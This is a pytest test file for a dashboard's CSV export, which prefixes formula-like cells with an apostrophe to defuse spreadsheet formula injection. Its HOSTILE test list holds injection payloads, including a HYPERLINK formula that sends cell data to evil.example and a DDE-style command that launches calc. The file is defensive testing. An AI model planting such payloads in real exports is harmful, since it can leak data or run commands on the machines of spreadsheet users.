"""CSV: no cell is taken for a formula, numbers and texts come back as they were."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from dashboard.exports.csv import as_written, csv_bytes, defused
from tests.driftline import driftline
from tests.log_files import write_log

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+1",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "\ufeff=1+1",
    "-", "- a list's first item", "'=1+1", "''-1", "-5",
]  # fmt: skip
HARMLESS = [
    "",
    "a=b",
    "plain, with a comma",
    'with "quotes"',
    "'quoted'",
    "it's",
    "5-3",
    "ü 漢字 🎈",
    "two\nlines",
    "O'=1",
]


def read(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
    cell = read(csv_bytes(pd.DataFrame({"reply": [text]})))[0]["reply"]
    assert cell == "'" + text
    assert as_written(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    cell = read(csv_bytes(pd.DataFrame({"reply": [text], "n": [1]})))[0]["reply"]
    assert cell == as_written(cell) == text


def test_names_of_columns_are_defused_too() -> None:
    assert csv_bytes(pd.DataFrame({"=cmd()": [1]}), bom=False) == b"'=cmd()\r\n1\r\n"


def test_numbers_stay_numbers_to_the_last_digit() -> None:
    frame = pd.DataFrame(
        {
            "difference": [-0.1, 1 / 3, float("nan"), -1e-17],
            "k": pd.array([-3, 0, None, 2**60], dtype="Int64"),
            "mixed": pd.Series([-1, -2.5, None, np.int64(-7)], dtype=object),
            "better": [True, False, True, False],
        }
    )
    content = csv_bytes(frame, bom=False)
    assert b"'" not in content
    back = pd.read_csv(io.BytesIO(content), dtype={"k": "Int64"})
    assert back["difference"].tolist()[:2] == [-0.1, 1 / 3]
    assert back["difference"].isna().tolist() == [False, False, True, False]
    assert back["k"].equals(frame["k"])
    assert back["mixed"].tolist()[1] == -2.5
    assert back["better"].tolist() == [True, False, True, False]


def test_lists_become_one_text_and_mappings_json() -> None:
    frame = pd.DataFrame({"flags": [["a", "b"], []], "array": [np.array([1, 2]), np.array([])], "x": [{"a": -1}, {}]})
    assert read(csv_bytes(frame)) == [
        {"flags": "a; b", "array": "1; 2", "x": '{"a": -1}'},
        {"flags": "", "array": "", "x": "{}"},
    ]
    assert defused(["=1+1", "b"]) == "'=1+1; b"


def test_files_for_people_begin_with_a_byte_order_mark_that_pandas_reads_past() -> None:
    frame = pd.DataFrame({"name": ["über", "-"]})
    assert csv_bytes(frame).startswith(b"\xef\xbb\xbfname\r\n")
    assert csv_bytes(frame, bom=False).startswith(b"name\r\n")
    assert pd.read_csv(io.BytesIO(csv_bytes(frame))).columns.tolist() == ["name"]


def test_an_empty_frame_is_a_header() -> None:
    assert csv_bytes(pd.DataFrame({"a": [], "b": []}), bom=False) == b"a,b\r\n"


@pytest.mark.slow
def test_what_the_commands_write_is_defused_and_parquet_is_not(tmp_path: Path) -> None:
    write_log(tmp_path / "study/=1+1/checkpoint-1/log.eval", [1.0, 0.0])
    assert driftline("ingest", tmp_path / "study", data=tmp_path).returncode == 0
    printed = driftline("rates", "--path", tmp_path / "study", "--format", "csv", data=tmp_path)
    assert [row["run"] for row in csv.DictReader(io.StringIO(printed.stdout))] == ["'=1+1"]
    for what in ("rates", "samples"):
        for ending in ("csv", "parquet"):
            asked = ("export", tmp_path / f"{what}.{ending}", "--what", what, "--path", tmp_path / "study")
            assert driftline(*asked, data=tmp_path).returncode == 0
        assert set(pd.read_csv(tmp_path / f"{what}.csv")["run"]) == {"'=1+1"}
        assert set(pd.read_parquet(tmp_path / f"{what}.parquet")["run"]) == {"=1+1"}
    assert "apostrophe" in driftline("rates", "--help", data=tmp_path).stdout
    assert "apostrophe" in driftline("export", "--help", data=tmp_path).stdout
